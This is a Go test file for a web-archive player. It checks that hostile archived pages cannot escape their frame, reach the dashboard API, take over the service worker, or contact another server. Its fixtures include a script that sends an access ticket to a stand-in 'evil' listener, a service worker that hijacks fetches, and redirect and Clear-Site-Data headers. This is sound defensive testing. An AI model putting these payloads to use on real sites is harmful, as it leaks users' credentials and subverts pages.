package curator

import (
	"encoding/json"
	"fmt"
	"net"
	"os"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/arcrawl/arcrawl/admin/access"
	"github.com/arcrawl/arcrawl/internal/archivetest"
	"github.com/arcrawl/arcrawl/internal/browser"
	"github.com/arcrawl/arcrawl/internal/slow"
)

// TestAnArchivedPageCannotLeaveItsFrame plays a page whose scripts try to read the API, to steer the dashboard, to take
// over the service worker, and to reach another server. Afterwards a healthy page is shown as before.
func TestAnArchivedPageCannotLeaveItsFrame(t *testing.T) {
	t.Parallel()
	slow.Unraced(t, browser.Races)
	w := newArchived(t)
	p := w.player(engine(t), "maria")
	origin := serve(t, p)
	evil, visitors := listener(t)
	var secrets atomic.Int64
	const page, healthy = "http://www.a.example/", "http://b.example/"
	at := stamp(w.add(w.Page(healthy, htmlHead, "<p id=word>well"), "text/html", 200))
	address := func(uri string) string {
		return fmt.Sprintf("%s/open/%s/%s/%s", origin, p.o.Tickets.Issue("maria", access.Curate, uri, at, true, w.Now), at, uri)
	}
	ticket := p.o.Tickets.Issue("maria", access.Curate, page, at, true, w.Now)
	d := framed(t, address(page), &secrets)
	attack, err := os.ReadFile("testdata/attack.html")
	archivetest.Must(t, err)
	raw := strings.NewReplacer("{{API}}", d.URL, "{{EVIL}}", evil, "{{TICKET}}", ticket).Replace(string(attack))
	w.add(w.Page(page+"raw", htmlHead, raw), "text/html", 200)
	w.add(w.Page(page+"sw.js", "HTTP/1.1 200 OK\r\nContent-Type: text/javascript\r\nService-Worker-Allowed: /",
		"onfetch = (e) => e.respondWith(new Response('taken'))"), "text/javascript", 200)
	w.add(w.Page(page, htmlHead+"\r\nLink: <"+evil+"/link>; rel=preconnect\r\nRefresh: 9;url="+evil+"\r\nClear-Site-Data: \"*\"",
		`<p id=word>calm<img src="/raw"><script>{const f = document.createElement("iframe"); f.src = wbinfo.prefix + "id_/http://www.a.example/raw"; document.body.append(f)}</script>`), "text/html", 200)

	b := browser.Open(t, 300, 200)
	b.Go(d.URL + framedSignIn)
	frame := b.Frame(`window.tries`)
	var tries map[string]string
	if err := json.Unmarshal([]byte(frame(`window.tries`)), &tries); err != nil || len(tries) < 30 {
		t.Fatalf("%d tries, %v", len(tries), err)
	}
	for name, got := range tries {
		if got != "refused" {
			t.Errorf("%s: %s", name, got)
		}
	}
	if got := b.Eval(`document.title + " " + (location.origin === "` + d.URL + `") + " " + document.getElementById("f").src.includes("/open/")`); got != `"dashboard true true"` {
		t.Errorf("the dashboard became %s", got)
	}
	if n := secrets.Load(); n > 0 {
		t.Errorf("the API answered %d requests of an archived page", n)
	}
	b.Go("about:blank")
	b.Go(framed(t, address(healthy), &secrets).URL + framedSignIn)
	shows := b.Frame(`location.pathname.startsWith("/w/") && document.getElementById("word")`)
	if got := shows(`document.getElementById("word").textContent`); got != `"well"` {
		t.Errorf("the healthy page says %s", got)
	}
	if list := visitors(); len(list) > 0 {
		t.Errorf("another server was reached: %q", list)
	}
}

// TestAnArchivedPageIsNotShownInATab opens a page in a tab, by both of its addresses. The page leaves for elsewhere.
// The dashboard has the same host name as the player, so that a tab has the same service worker as the frame.
func TestAnArchivedPageIsNotShownInATab(t *testing.T) {
	t.Parallel()
	w := newArchived(t)
	p := w.player(engine(t), "maria")
	origin := serve(t, p)
	evil, visitors := listener(t)
	at := stamp(w.add(w.Page("http://b.example/", htmlHead, "<p>well<iframe></iframe>"), "text/html", 200))
	ticket := p.o.Tickets.Issue("maria", access.Curate, "http://b.example/", at, true, w.Now)
	w.add(w.Page("http://www.a.example/", htmlHead, "<script>location = '"+evil+"/leak?"+ticket+"'</script>"), "text/html", 200)
	var secrets atomic.Int64
	d := framed(t, fmt.Sprintf("%s/open/%s/%s/http://b.example/", origin, ticket, at), &secrets)

	b := browser.Open(t, 300, 200)
	b.Go(strings.Replace(d.URL, "127.0.0.1", "localhost", 1) + framedSignIn)
	b.Wait(`frames.length === 1 && frames[0].length === 1`) // the archived page, which has a frame, is shown
	for _, path := range []string{"/w/" + ticket + "/" + at + "mp_/", "/open/" + ticket + "/" + at + "/"} {
		b.Go(origin + path + "http://www.a.example/")
		if got := b.Eval(`document.documentElement.innerText`); !strings.Contains(got, "only inside the dashboard") {
			t.Errorf("%s shows %s", path, got)
		}
	}
	if list := visitors(); len(list) > 0 {
		t.Errorf("another server was reached: %q", list)
	}
}

// listener is another server. visitors returns the first line of each request to it. A connection without a request
// does not count: Chromium connects to the server of a frame before it looks at the policy that forbids the frame.
func listener(t *testing.T) (origin string, visitors func() []string) {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	var mu sync.Mutex
	var seen []string
	var done sync.WaitGroup
	done.Go(func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			_ = c.SetDeadline(time.Now().Add(time.Second))
			line := make([]byte, 100)
			n, _ := c.Read(line)
			if n > 0 {
				mu.Lock()
				seen = append(seen, strings.SplitN(string(line[:n]), "\r", 2)[0])
				mu.Unlock()
			}
			_ = c.Close()
		}
	})
	t.Cleanup(func() { _ = l.Close(); done.Wait() })
	return "http://" + l.Addr().String(), func() []string { mu.Lock(); defer mu.Unlock(); return slices.Clone(seen) }
}
